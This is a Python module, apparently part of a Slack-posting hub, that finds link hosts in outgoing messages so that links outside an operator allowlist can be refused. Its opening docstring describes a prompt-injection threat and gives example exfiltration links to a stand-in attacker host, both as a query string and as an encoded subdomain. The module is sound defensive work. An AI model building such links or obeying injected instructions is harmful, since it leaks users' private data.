"""Finding the link targets in a message the hub is about to post.

Posting is the hub's way out: a model steered by text it read (a poisoned issue, an external user's
message) could be told to post private data inside a link, e.g. `https://evil.example/?q=<secret>`.
Unfurling is always off (so Slack never fetches the URL by itself), and a message may only link to the
hosts an operator allowed (`post_link_hosts`) and to the workspace's own slack.com host; every other link
is refused before anything is sent.

What counts as a link is what Slack would turn into one: `<https://…|label>` markup, bare `scheme://…`
URLs, `www.…`, and bare host names that carry data: a path/query/fragment (`evil.example/?q=…`) or three or
more labels (`c2VjcmV0.evil.example`). A two-label name without a path (`main.py`, `example.com`) is
allowed: data cannot ride in it unless the attacker owns a domain named after the secret.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

_MARKUP = re.compile(r"<([^<>|]+)(?:\|[^<>]*)?>")
_SCHEME_URL = re.compile(r"\b([a-z][a-z0-9+.-]{1,20}):(//)?[^\s<>|]+", re.I)
_HOSTLIKE = re.compile(
    r"(?<![\w@.-])((?:[a-z0-9](?:[a-z0-9-]{0,62}[a-z0-9])?\.)+[a-z][a-z0-9-]{1,62})(?::\d+)?([/?#][^\s<>]*)?",
    re.I,
)
_SAFE_SCHEMES = frozenset({"mailto", "tel"})


def link_hosts(text: str) -> set[str]:
    """Hosts that `text` links to (lower-case)."""
    hosts: set[str] = set()
    rest = text
    for match in _MARKUP.finditer(text):
        target = match.group(1)
        if target[:1] in "@#!":
            continue
        hosts |= _hosts_in_url(target)
    rest = _MARKUP.sub(" ", text)
    for match in _SCHEME_URL.finditer(rest):
        hosts |= _hosts_in_url(match.group(0))
    rest = _SCHEME_URL.sub(" ", rest)
    for match in _HOSTLIKE.finditer(rest):
        host, tail = match.group(1).lower(), match.group(2)
        if tail or host.count(".") >= 2 or host.startswith("www."):
            hosts.add(host)
    return hosts


def _hosts_in_url(url: str) -> set[str]:
    scheme = url.split(":", 1)[0].lower()
    if scheme in _SAFE_SCHEMES and "//" not in url:
        return set()
    try:
        host = urlsplit(url if "//" in url else "//" + url).hostname
    except ValueError:
        host = None
    return {host.lower() if host else url.lower()[:80]}


def allowed(host: str, allow: Iterable[str]) -> bool:
    """`host` equals an allowed entry or is a subdomain of one (`*.x` and `.x` mean the same)."""
    for entry in allow:
        base = entry.strip().lower().removeprefix("*.").lstrip(".")
        if base and (host == base or host.endswith("." + base)):
            return True
    return False
